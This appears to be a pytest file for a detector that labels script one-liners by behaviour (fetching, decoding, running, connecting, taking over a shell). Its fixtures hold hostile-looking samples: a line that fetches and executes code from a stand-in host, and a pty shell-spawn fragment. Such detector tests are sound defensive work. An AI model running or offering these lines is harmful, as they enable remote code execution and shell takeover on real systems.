from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.shell.one_liner import one_liner


@pytest.mark.parametrize(
    ("code", "answers"),
    [
        ("exec(urlopen('http://a.example/x').read())", ("fetches", "runs")),
        ("eval unpack u=>q{x}", ("decodes", "runs")),
        ("import socket,pty;pty.spawn('/bin/sh')", ("runs", "connects", "takes_over")),
        ("print(json.load(sys.stdin)['a'])", ()),
        ("sleep int(rand(43200))", ()),
    ],
)
def test_answers(code, answers):
    seen = one_liner(code)
    names = ("fetches", "decodes", "runs", "connects", "takes_over")
    assert tuple(name for name in names if getattr(seen, name)) == answers


def test_commands_given_to_a_shell():
    assert one_liner("os.system('/opt/x -d')").commands == ("/opt/x -d",)
    assert one_liner("print('/opt/x -d')").commands == ()


@given(st.text())
def test_any_text(text):
    assert isinstance(one_liner(text).runs, bool)
